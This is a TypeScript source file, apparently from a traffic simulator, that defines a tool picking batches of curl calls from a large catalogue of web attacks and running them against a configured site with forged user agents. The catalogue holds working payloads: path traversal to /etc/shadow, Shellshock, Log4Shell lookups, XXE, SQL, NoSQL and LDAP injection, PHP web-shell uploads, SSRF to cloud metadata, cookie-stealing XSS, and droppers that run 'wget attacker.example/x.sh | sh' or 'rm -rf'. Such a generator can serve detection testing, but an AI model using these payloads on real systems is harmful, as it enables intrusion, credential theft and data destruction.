import { FORGED_AGENTS } from '../user-agents.ts';
import { type Prompt, SITE, SITE_ADDRESS, type Step, type Tool } from '../visit.ts';

/** Arguments of one curl call: an attacker follows up what the scanners found. */
type Call = readonly string[];

const OUTSIDE = 'http://attacker.example';
const JSON_TYPE = ['-H', 'Content-Type: application/json'];
const XML_TYPE = ['-H', 'Content-Type: application/xml'];

const SCRIPTS: readonly (readonly Call[])[] = [
  [
    [`${SITE}/download?file=../../../../etc/passwd`],
    [`${SITE}/download?file=..%2f..%2f..%2f..%2fetc%2fpasswd`],
    [`${SITE}/download?file=....//....//....//etc/shadow`],
    ['--path-as-is', `${SITE}/assets/../../../../proc/self/environ`],
    [`${SITE}/download?file=%252e%252e%252f%252e%252e%252fetc%252fhosts`],
  ],
  [
    [`${SITE}/index.php?page=php://filter/convert.base64-encode/resource=config.php`],
    [`${SITE}/index.php?page=/var/log/nginx/access.log`],
    [`${SITE}/index.php?page=data://text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==`],
    [`${SITE}/index.php?page=${OUTSIDE}/shell.txt`],
    [`${SITE}/index.php?page=ftp://attacker.example/c99.php%00`],
  ],
  [
    [`${SITE}/product?id=1;id`],
    [`${SITE}/product?id=1|cat%20/etc/passwd`],
    [`${SITE}/search?q=$(whoami)`],
    [`${SITE}/search?q=%60uname%20-a%60`],
    [`${SITE}/product?id=1%26%26wget%20${OUTSIDE}/x.sh%20-O-%7Csh`],
    [`${SITE}/product?id=1;ping%20-c%204%20attacker.example`],
  ],
  [
    ['-A', '() { :; }; echo; /bin/cat /etc/passwd', `${SITE}/cgi-bin/status`],
    ['-A', '() { ignored; }; /bin/bash -c "id"', `${SITE}/cgi-bin/test.cgi`],
    ['-H', 'Referer: () { :; }; /usr/bin/id', `${SITE}/cgi-bin/test-cgi`],
  ],
  [
    ['-A', `\${jndi:ldap://attacker.example/a}`, `${SITE}/`],
    ['-H', `X-Api-Version: \${jndi:\${lower:l}dap://attacker.example/b}`, `${SITE}/api/v1/status`],
    [`${SITE}/search?q=%24%7Bjndi%3Adns%3A%2F%2Fattacker.example%2Fc%7D`],
  ],
  [
    [`${SITE}/search?q=%7B%7B7*7%7D%7D`],
    [`${SITE}/search?q=%24%7B7*7%7D`],
    [`${SITE}/search?q=%7B%7Bconfig.__class__.__init__.__globals__%5B'os'%5D.popen('id').read()%7D%7D`],
    [`${SITE}/search?q=%3C%25%3D%20system('id')%20%25%3E`],
  ],
  [
    [
      ...XML_TYPE,
      '-d',
      '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><order><id>&x;</id></order>',
      `${SITE}/api/v1/products`,
    ],
    [
      ...XML_TYPE,
      '-d',
      `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "${OUTSIDE}/p.dtd">%p;]><r/>`,
      `${SITE}/api/v1/products`,
    ],
  ],
  [
    [...JSON_TYPE, '-d', '{"username":{"$ne":null},"password":{"$ne":null}}', `${SITE}/api/login`],
    [...JSON_TYPE, '-d', '{"username":"admin","password":{"$regex":"^a"}}', `${SITE}/api/login`],
    [...JSON_TYPE, '-d', '{"username":"admin\' || \'1\'==\'1","password":"x"}', `${SITE}/api/login`],
    [`${SITE}/api/v1/products?category[$gt]=`, '-g'],
  ],
  [
    ['-d', 'username=*)(uid=*))(|(uid=*&password=x', `${SITE}/login`],
    ['-d', 'username=admin)(%26)&password=x', `${SITE}/login`],
  ],
  [
    [`${SITE}/login?next=%0d%0aSet-Cookie:%20admin=1`],
    [`${SITE}/journal?lang=en%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK`],
    [`${SITE}/login?next=//attacker.example/%2e%2e`],
    [`${SITE}/login?next=https:attacker.example`],
  ],
  [
    [`${SITE}/api/v1/products?image=http://169.254.169.254/latest/meta-data/`],
    [`${SITE}/api/v1/products?image=http://127.0.0.1:6379/`],
    [`${SITE}/photos?url=gopher://127.0.0.1:11211/_stats`],
    [`${SITE}/photos?url=file:///etc/hostname`],
  ],
  [
    [
      '-F',
      'photo=<?php system($_GET["c"]); ?>;filename=bean.php;type=image/jpeg',
      '-F',
      'title=bean',
      `${SITE}/photos`,
    ],
    [`${SITE}/uploads/bean.php?c=id`],
    ['-F', 'photo=GIF89a<?php eval($_POST[1]);?>;filename=bean.gif.phtml', `${SITE}/upload`],
    ['-d', '1=system("id");', `${SITE}/uploads/bean.gif.phtml`],
  ],
  [
    ['-H', 'Cookie: cart=O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}', `${SITE}/account`],
    ['-d', 'data=a:1:{i:0;O:4:"Mail":1:{s:3:"cmd";s:2:"id";}}', `${SITE}/contact`],
  ],
  [
    ['-d', 'name=assert(phpinfo())&message=eval(base64_decode("cGhwaW5mbygpOw=="))', `${SITE}/contact`],
    [
      '-d',
      '<?php echo md5("x"); ?>',
      `${SITE}/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input`,
    ],
  ],
  [
    [`${SITE}/search?q=%3Cscript%3Ealert(1)%3C/script%3E`],
    [`${SITE}/search?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(document.domain)%3E`],
    [`${SITE}/search?q=%3Csvg/onload%3Dfetch('//attacker.example/'%2Bdocument.cookie)%3E`],
    ['-d', 'name=<b onmouseover=alert(1)>x</b>&message=<iframe src=javascript:alert(1)>', `${SITE}/contact`],
  ],
  [
    [`${SITE}/product?id=1%27%20OR%20%271%27=%271`],
    [`${SITE}/product?id=-1%20UNION%20SELECT%201,username,password,4%20FROM%20users--%20-`],
    [`${SITE}/product?id=1%20AND%20SLEEP(2)`],
    [`${SITE}/product?id=1;DROP%20TABLE%20products--`],
    ['-d', "username=admin'--&password=x", `${SITE}/login`],
  ],
  [
    [`${SITE}/.env`],
    [`${SITE}/.git/config`],
    [`${SITE}/backup/users.csv`],
    [`${SITE}/config.php.bak`],
    [`${SITE}/.aws/credentials`],
    [`${SITE}/id_rsa`],
    [`${SITE}/actuator/env`],
    [`${SITE}/server-status`],
  ],
  [
    [`${SITE}/wp-login.php`],
    ['-d', 'log=admin&pwd=admin', `${SITE}/wp-login.php`],
    ['-d', '<methodCall><methodName>system.listMethods</methodName></methodCall>', `${SITE}/xmlrpc.php`],
    [`${SITE}/wp-content/plugins/revslider/temp/update_extract/`],
    [`${SITE}/?author=1`],
    [`${SITE}/wp-json/wp/v2/users`],
  ],
  [
    ['-X', 'TRACE', `${SITE}/`],
    ['-X', 'PUT', '-d', 'x', `${SITE}/uploads/x.jsp`],
    ['-X', 'PROPFIND', '-H', 'Depth: 1', `${SITE}/`],
    ['-X', 'DELETE', `${SITE}/api/v1/products/1`],
    ['-X', 'DEBUG', `${SITE}/`],
  ],
  [
    ['-X', 'POST', '-H', 'Transfer-Encoding: chunked', '-H', 'Content-Length: 4', '-d', '0', `${SITE}/`],
    ['-H', 'X-Forwarded-For: 127.0.0.1', '-H', 'X-Original-URL: /admin/config', `${SITE}/admin/`],
    ['-H', 'Host: localhost', `http://${SITE_ADDRESS}/admin/config`],
  ],
  [
    [
      '-H',
      "Content-Type: %{(#_='multipart/form-data').(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd))}",
      `${SITE}/upload.action`,
    ],
    [`${SITE}/index.action?redirect:%24%7B%23context%5B%22x%22%5D%7D`],
    [...JSON_TYPE, '-d', '{"__proto__":{"isAdmin":true}}', `${SITE}/api/v1/users`],
    [...JSON_TYPE, '-d', '{"query":"{__schema{types{name}}}"}', `${SITE}/graphql`],
  ],
  [
    ...[1, 2, 3, 4, 5, 6, 7, 8].map((id): Call => [`${SITE}/api/v1/users/${id}`]),
    [`${SITE}/api/v1/users/../admin`, '--path-as-is'],
  ],
  [
    [`${SITE}/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(wget+${OUTSIDE}/m.sh)`],
    [
      '-d',
      'XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+attacker.example/g`',
      `${SITE}/GponForm/diag_Form?images/`,
    ],
    [`${SITE}/shell?cd+/tmp;rm+-rf+*;wget+${OUTSIDE}/jaws;sh+/tmp/jaws`],
    [`${SITE}/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php`, '-d', '<?php die(md5(1));'],
  ],
];

export const curlByHand: Tool = (prompt: Prompt) => {
  const agent = prompt.chance(0.5) ? ['-A', prompt.pick(FORGED_AGENTS)] : [];
  const calls = [prompt.pick(SCRIPTS), ...(prompt.chance(0.4) ? [prompt.pick(SCRIPTS)] : [])].flat();
  return calls.flatMap((call): readonly Step[] => [
    // A user agent within the call is the attack itself and comes last.
    { run: ['curl', '-s', '-m', '5', '-o', '/dev/null', ...agent, ...call] },
    { pauseMs: prompt.between(50, 1200) },
  ]);
};
